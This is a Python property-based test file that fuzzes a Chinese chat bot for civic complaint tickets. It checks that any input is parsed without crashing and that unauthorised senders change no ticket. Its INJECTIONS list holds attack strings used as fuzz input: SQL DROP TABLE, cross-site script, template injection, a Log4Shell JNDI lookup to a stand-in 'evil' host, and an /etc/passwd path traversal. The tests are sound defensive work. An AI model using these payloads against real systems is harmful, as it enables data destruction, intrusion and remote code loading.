"""Property-based tests: anything anyone types is read without a crash, and changes nothing
it has no right to change."""

from __future__ import annotations

import os
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from bot.app_services import AppServices
from bot.chat.commands import CommandMatch, UsageError
from bot.chat.text_normalize import command_text
from bot.parsing.parser import MessageParser, ParsedMessage
from config import GuanjiaConfig
from handlers import load_handlers
from models import Ticket
from tests.support.chat import Chat

REGISTRY = load_handlers()
VERBS = sorted(v for c in REGISTRY.commands for v in c.verbs)
TICKET_VERBS = sorted(v for c in REGISTRY.commands if c.takes_ticket for v in c.verbs)
# GUANJIA_FUZZ_EXAMPLES=2000 for a deeper run than the suite's quick one.
EXAMPLES = int(os.environ.get("GUANJIA_FUZZ_EXAMPLES", "60"))
FAST = settings(max_examples=EXAMPLES, deadline=None, database=None)

INJECTIONS = [
    "'; DROP TABLE tickets; --",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "{{7*7}}${7*7}",
    "${jndi:ldap://evil/a}",
    "%s%s%n%x",
    "../../etc/passwd",
    "\x00\x1b[31m",
    "\u202e\u200b\ufeff",
    '@所有人 @all <at user_id="all"></at>',
    "# 标题\n[x](http://evil)",
    "🙂👍🏻\U0001f9d1\u200d\U0001f692",
    "\ud800",
    "９" * 30,
    "9" * 5000,
    "#" * 50,
    "认领认领认领",
    "[图片]" * 5,
]
_digits = "0123456789０１２３４５６７８９٣۳߃३১੩૩୩௩౩೩൩๓"
_fragment = st.one_of(
    st.text(max_size=40),
    st.sampled_from(INJECTIONS),
    st.sampled_from(VERBS),
    st.text(alphabet=_digits, min_size=1, max_size=25),
    st.sampled_from(["@大管家 ", "＠创城大管家", " ", "#", "＃", "号", "\n", "府前街", "垃圾", "占道", "井盖"]),
)
hostile_text = st.lists(_fragment, max_size=8).map("".join)


def _wide(n: int, widths: list[bool]) -> str:
    return "".join(chr(ord(d) + 0xFEE0) if widths[i % len(widths)] else d for i, d in enumerate(str(n)))


@FAST
@given(text=hostile_text | st.text(max_size=400))
def test_command_matcher_reads_any_text(cfg: GuanjiaConfig, text: str) -> None:
    result = REGISTRY.match(command_text(text, cfg.bot_names))
    assert result is None or isinstance(result, CommandMatch | UsageError)
    if isinstance(result, CommandMatch) and result.args.ticket_id is not None:
        assert 0 <= result.args.ticket_id < 10**10
    if isinstance(result, UsageError):
        assert result.reason and len(result.reason) < 200


@FAST
@given(
    verb=st.sampled_from(TICKET_VERBS),
    n=st.integers(0, 10**10 - 1),
    widths=st.lists(st.booleans(), min_size=1, max_size=4),
    mark=st.sampled_from(["", "#", "＃", "# ", "＃ "]),
    space=st.sampled_from(["", " ", "　", "  "]),
    mention=st.sampled_from(["", "@大管家 ", "＠创城大管家 ", "@guanjia  "]),
)
def test_ticket_numbers_in_any_width_are_read_exactly(
    cfg: GuanjiaConfig, verb: str, n: int, widths: list[bool], mark: str, space: str, mention: str
) -> None:
    text = f"{mention}{verb}{space}{mark}{_wide(n, widths)}"
    result = REGISTRY.match(command_text(text, cfg.bot_names))
    assert isinstance(result, CommandMatch), (text, result)
    assert result.args.ticket_id == n
    assert verb in result.command.verbs


@FAST
@given(verb=st.sampled_from(TICKET_VERBS), digits=st.text(alphabet="123456789９", min_size=11, max_size=6000))
def test_huge_ticket_numbers_are_refused_not_crashed(cfg: GuanjiaConfig, verb: str, digits: str) -> None:
    result = REGISTRY.match(command_text(f"{verb} {digits}", cfg.bot_names))
    assert isinstance(result, UsageError)
    assert "没有找到" in result.reason  # 工单, or the 消息号 of 立案


@pytest.fixture(scope="module")
def parser(cfg: GuanjiaConfig) -> MessageParser:
    return MessageParser(cfg)


@settings(max_examples=EXAMPLES, deadline=None, database=None)
@given(text=hostile_text | st.text(max_size=600))
def test_report_parser_reads_any_text(cfg: GuanjiaConfig, parser: MessageParser, text: str) -> None:
    parsed = parser.parse(text)
    assert isinstance(parsed, ParsedMessage)
    assert parsed.is_report or not parsed.problems
    for problem in parsed.problems:
        assert problem.category in cfg.categories
        assert problem.unit in cfg.units
        assert 0 <= problem.confidence <= 1
        assert problem.location is None or 0 < len(problem.location) <= 200  # the column's width
    parser.is_chatter(text)
    parser.locate(text)


# --- through the real intake ------------------------------------------------------------

GARBAGE = "府前街与南环路交叉口西北角垃圾堆了两天了"
PARKING = "东关大街与北环路交叉口有辆白色轿车停在人行道上"


def _state(services: AppServices, ids: list[int]) -> dict[int, tuple[Any, ...]]:
    with services.session_factory() as session:
        rows = session.scalars(select(Ticket).where(Ticket.id.in_(ids)))
        return {
            t.id: (
                t.status,
                t.unit,
                t.category,
                t.claim_deadline,
                t.fix_deadline,
                t.claimed_by,
                t.pending_extension_hours,
                t.duplicate_of,
            )
            for t in rows
        }


@pytest.fixture
def tickets(chat: Chat) -> list[int]:
    """One ticket in each state a command can change: dispatched, claimed, fixed, with an extension asked."""
    dispatched = chat.report(GARBAGE)
    claimed = chat.report(PARKING)
    chat.send(f"认领 {claimed}", sender="jtzd_zhou")
    chat.send(f"延期 {claimed} 2天 需要协调", sender="jtzd_zhou")
    fixed = chat.report("文化广场东侧井盖丢了，很危险")
    unit_of_fixed = _unit_member(chat, fixed)
    chat.send(f"完成 {fixed} 已补好", sender=unit_of_fixed)
    triage = chat.report("3号楼和5号楼之间有个东西不知道谁的，挺影响市容")
    return [dispatched, claimed, fixed, triage]


def _unit_member(chat: Chat, ticket_id: int) -> str:
    with chat.services.session_factory() as session:
        unit = session.get_one(Ticket, ticket_id).unit
    return chat.services.cfg.units[unit].members[0]


@settings(
    max_examples=EXAMPLES, deadline=None, database=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.data())
def test_no_change_without_permission(chat: Chat, services: AppServices, tickets: list[int], data: Any) -> None:
    before = _state(services, tickets)
    assert [s[0] for s in before.values()] == ["dispatched", "claimed", "fixed", "triage"]
    assert before[tickets[1]][6]  # an extension is pending
    assert not {s[1] for s in before.values()} & {"yl"}  # yl_wei is an outsider to all of them
    verb = data.draw(st.sampled_from(VERBS))
    number = data.draw(st.sampled_from([*tickets, 0, 999999]).map(str) | st.text(alphabet=_digits, max_size=12))
    rest = data.draw(hostile_text | st.sampled_from(["通过", "不通过 没修好", "2天 忙", "环卫", "交警", "占道经营"]))
    text = data.draw(st.sampled_from([f"{verb} {number} {rest}", f"{number} {verb} {rest}", rest]) | hostile_text)
    # Outsiders: nobody in config, a platform stranger, a member of an unrelated unit, a leader.
    sender = data.draw(st.sampled_from(["stranger", "dingtalk:0123", "yl_wei", "ld_ma"]))
    outcome = chat.send(text, sender=sender)
    for reply in outcome.replies:
        assert isinstance(reply.text, str)
    assert _state(services, tickets) == before, (sender, text, [r.text for r in outcome.replies])


_extremes = st.sampled_from(
    [
        "99999999999999天 x",
        "1e308小时 x",
        "0天 x",
        "0001-01-01",
        "全区 9999-12-31",
        "9998-12-31 本月",
        "13月45日",
        "本周",
    ]
)


@settings(
    max_examples=EXAMPLES, deadline=None, database=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.data())
def test_people_with_rights_cannot_crash_it_either(chat: Chat, tickets: list[int], data: Any) -> None:
    verb = data.draw(st.sampled_from(VERBS))
    number = data.draw(st.sampled_from(tickets).map(str) | st.text(alphabet=_digits, min_size=1, max_size=14))
    rest = data.draw(_extremes | hostile_text)
    sender = data.draw(st.sampled_from(["ccb_wang", "jtzd_zhou", "hws_chen", "wgy_li"]))
    outcome = chat.send(data.draw(st.sampled_from([f"{verb} {number} {rest}", f"{verb} {rest}"])), sender=sender)
    assert all(isinstance(r.text, str) and r.text for r in outcome.replies)
